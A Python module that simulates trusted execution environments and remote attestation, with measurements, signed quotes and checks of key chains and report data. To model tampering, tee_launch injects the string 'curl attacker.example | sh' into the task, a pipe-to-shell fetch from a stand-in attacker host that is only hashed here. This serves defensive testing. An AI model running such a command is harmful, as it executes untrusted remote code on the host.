"""Software-simulated trusted execution environments and remote attestation."""

from __future__ import annotations

import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Optional, Union

from .canonical import Digest, canonical_decode, canonical_encode, hash_value
from .errors import EvidenceFormatError, MissingEndorser, UnknownSigner
from .evidence import (
    AttestationQuote,
    AttestedEvidence,
    AuthenticatedEvidence,
    Bottom,
    auth_failures,
    quote_body,
)
from .keys import (
    MANUFACTURER_ROOT,
    SYSTEM,
    TEE_IDENTITY,
    KeyRecord,
    KeyStore,
    expect_keys,
    keygen,
    sign,
    verify_endorsement,
    verify_signature,
)

log = logging.getLogger(__name__)

__all__ = [
    "AttestationQuote",
    "ReferenceEnvironment",
    "TEEInstance",
    "attestation_failures",
    "f_attest",
    "make_reference_env",
    "measure",
    "produce_quote",
    "tee_launch",
]


def measure(task, env_descriptor: dict) -> Digest:
    return hash_value({"task_digest": hash_value(task), "env": env_descriptor})


@dataclass(frozen=True)
class ReferenceEnvironment:
    env_id: Digest
    labels: dict
    task_digest: Digest
    expected_measurement: Digest
    allowed_tee_roots: tuple[Digest, ...]

    def body(self) -> dict:
        return {
            "labels": dict(self.labels),
            "task_digest": self.task_digest,
            "allowed_tee_roots": list(self.allowed_tee_roots),
        }

    def to_dict(self) -> dict:
        return {
            **self.body(),
            "env_id": self.env_id,
            "expected_measurement": self.expected_measurement,
        }

    def save(self, path: Path) -> None:
        Path(path).write_bytes(canonical_encode(self) + b"\n")

    @classmethod
    def from_dict(cls, d: dict) -> "ReferenceEnvironment":
        d = expect_keys(
            d, ("labels", "task_digest", "allowed_tee_roots", "env_id", "expected_measurement")
        )
        env = _build_env(
            d["labels"],
            Digest.from_hex(d["task_digest"]),
            [Digest.from_hex(r) for r in d["allowed_tee_roots"]],
        )
        if env.env_id.hex != d["env_id"] or env.expected_measurement.hex != d["expected_measurement"]:
            raise EvidenceFormatError("reference environment does not recompute")
        return env

    @classmethod
    def load(cls, path: Path) -> "ReferenceEnvironment":
        return cls.from_dict(canonical_decode(Path(path).read_bytes().rstrip(b"\n")))


def _build_env(labels: dict, task_digest: Digest, allowed_roots) -> ReferenceEnvironment:
    roots = tuple(sorted(allowed_roots, key=lambda d: d.value))
    measurement = hash_value({"task_digest": task_digest, "env": labels})
    env_id = hash_value({"labels": labels, "task_digest": task_digest, "allowed_tee_roots": list(roots)})
    return ReferenceEnvironment(env_id, dict(labels), task_digest, measurement, roots)


def make_reference_env(task, labels: dict, allowed_roots) -> ReferenceEnvironment:
    """Reference environment expecting ``task`` to run under ``labels``."""
    return _build_env(labels, hash_value(task), [r.key_id if isinstance(r, KeyRecord) else r
                                                 for r in allowed_roots])


@dataclass
class TEEInstance:
    env: ReferenceEnvironment
    identity_key: KeyRecord
    system_key: KeyRecord
    measurement: Digest
    task: object = None
    tampered: bool = False
    launched_at: int = field(default_factory=lambda: int(time.time()))


def tee_launch(
    env: ReferenceEnvironment,
    root: KeyRecord,
    task=None,
    keystore: Optional[KeyStore] = None,
    tamper: bool = False,
) -> TEEInstance:
    """Start a simulated TEE with an ephemeral identity endorsed by ``root``.

    The instance measures ``task`` when given. ``tamper`` models the
    workload being modified after the environment was set up: the task gets
    an injected step, so its measurement no longer matches ``env``.
    """
    if root.role != MANUFACTURER_ROOT:
        raise MissingEndorser(f"TEEs are launched under a manufacturer root, not {root.role}")
    identity = keygen(TEE_IDENTITY, root)
    system = keygen(SYSTEM, identity)
    if keystore is not None:
        keystore.add(identity.public())
        keystore.add(system.public())
    if task is not None:
        if tamper:
            task = task.with_params(injected_step="curl attacker.example | sh")
        measurement = measure(task, env.labels)
    else:
        measurement = env.expected_measurement
        if tamper:
            measurement = hash_value({"tampered": measurement})
    return TEEInstance(env, identity, system, measurement, task, tamper)


def produce_quote(tee: TEEInstance, report_data: Digest) -> AttestationQuote:
    nonce = os.urandom(16)
    sig = sign(quote_body(tee.measurement, report_data, nonce), tee.identity_key)
    return AttestationQuote(tee.identity_key.key_id, tee.measurement, report_data, nonce, sig)


def identity_failures(quote: AttestationQuote, keystore: KeyStore, allowed_roots=None) -> list[str]:
    """Problems with the quote's signature or the TEE identity behind it."""
    problems = []
    try:
        sig_ok = quote.quote_signature.signer_key_id == quote.tee_key_id and verify_signature(
            quote.quote_signature,
            quote_body(quote.measurement, quote.report_data, quote.nonce),
            keystore,
        )
    except UnknownSigner:
        sig_ok = False
    if not sig_ok:
        problems.append("quote signature invalid")
    tee_key = keystore.get(quote.tee_key_id) if quote.tee_key_id in keystore else None
    if (
        tee_key is None
        or tee_key.role != TEE_IDENTITY
        or not verify_endorsement(tee_key, keystore, allowed_roots)
    ):
        problems.append("tee key does not chain to an allowed root")
    return problems


def provisioning_failures(e: AuthenticatedEvidence, quote: AttestationQuote, keystore: KeyStore,
                          allowed_roots=None) -> list[str]:
    # evidence must be signed by the system key the attested TEE provisioned
    signer = e.signature.signer_key_id
    if signer not in keystore:
        return []  # reported by auth_failures as an unknown signer
    sk = keystore.get(signer)
    if sk.cert is None or sk.cert.signer_key_id != quote.tee_key_id or not verify_endorsement(
        sk, keystore, allowed_roots
    ):
        return ["signing key not provisioned by the attested TEE"]
    return []


def attestation_failures(
    e: AuthenticatedEvidence,
    quote: Optional[AttestationQuote],
    env: Optional[ReferenceEnvironment],
    keystore: KeyStore,
) -> list[str]:
    """Every reason ``quote`` fails to attest ``e`` against ``env``; empty means valid."""
    if quote is None:
        return ["missing quote"]
    if env is None:
        return ["no reference environment"]
    problems = identity_failures(quote, keystore, env.allowed_tee_roots)
    if quote.measurement != env.expected_measurement:
        problems.append("measurement mismatch")
    if quote.report_data != e.bound_digest:
        problems.append("report data does not bind the evidence")
    problems.extend(auth_failures(e, keystore))
    problems.extend(provisioning_failures(e, quote, keystore, env.allowed_tee_roots))
    return problems


def f_attest(
    e: AuthenticatedEvidence,
    quote: AttestationQuote,
    env: ReferenceEnvironment,
    keystore: KeyStore,
    attested_at: Optional[int] = None,
) -> Union[AttestedEvidence, Bottom]:
    problems = attestation_failures(e, quote, env, keystore)
    if problems:
        reason = "; ".join(problems)
        log.warning(
            "attestation rejected for stage %d (%s): %s",
            e.raw.stage_index, e.raw.task_id, reason,
        )
        return Bottom(reason)
    when = int(time.time()) if attested_at is None else attested_at
    return AttestedEvidence(e, quote, when, origin=False)
